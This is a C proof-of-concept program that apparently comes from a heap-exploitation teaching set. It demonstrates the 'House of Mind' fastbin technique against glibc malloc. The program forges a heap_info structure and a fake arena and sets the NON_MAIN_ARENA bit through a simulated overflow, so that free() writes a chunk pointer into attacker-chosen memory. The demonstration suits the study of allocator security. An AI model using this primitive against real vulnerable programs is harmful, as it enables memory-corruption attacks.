#include "common.h"
#include <stdint.h>
/* House of Mind, fastbin variant: a forged heap_info makes free() use a fake arena. */
#define HEAP_MAX_SIZE (64UL << 20)
int main(void)
{
    setbuf(stdout, NULL);
    char *heap = sbrk(0);
    char *fake_arena = malloc(0x1000);
    char *target = fake_arena + 0x30; /* &fake_arena->fastbinsY[4], the 0x60 fastbin */
    printf("fake arena = heap+0x%lx, target = fake arena+0x30 (its fastbinsY[4])\n", fake_arena - heap);
    L(fake_arena + 0x888) = 0xffffff; /* system_mem: a chunk size below it passes free's check */
    uintptr_t boundary = ((uintptr_t)(fake_arena - 16) + HEAP_MAX_SIZE) & ~(HEAP_MAX_SIZE - 1);
    printf("the next 64 MiB boundary above it: heap+0x%lx\n", boundary - (uintptr_t)heap);
    long n = 1;
    char *block = malloc(0x1ff00);
    while ((uintptr_t)block < boundary) {
        block = malloc(0x1ff00);
        n++;
    }
    printf("%ld blocks of 0x1ff00 later the heap crosses it (last one at heap+0x%lx)\n", n, block - heap);
    char *victim = malloc(0x50);
    printf("victim = malloc(0x50) = heap+0x%lx, %s the boundary\n", victim - heap,
           (uintptr_t)victim > boundary ? "above" : "below");
    char *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(0x50);
    for (int i = 0; i < 7; i++)
        free(fill[i]);
    printf("the 0x60 tcache bin is full\n");
    L(boundary) = (uintptr_t)fake_arena; /* heap_info.ar_ptr, inside one of the blocks */
    printf("heap_info at the boundary: ar_ptr = fake arena\n");
    printf("target before: 0x%lx\n", L(target));
    L(victim - 8) |= 4; /* the one-byte overflow: NON_MAIN_ARENA on the victim's size */
    printf("victim's size word: 0x%lx (A bit set)\n", L(victim - 8));
    free(victim);
    printf("free(victim): arena_for_chunk took the fake arena; target now: heap+0x%lx, the victim's chunk: %s\n",
           L(target) - (uintptr_t)heap, YN(L(target) == (uintptr_t)(victim - 16)));
    struct mallinfo2 mi = mallinfo2();
    printf("main_arena's fastbins hold %zu bytes\n", mi.fsmblks);
    return 0;
}
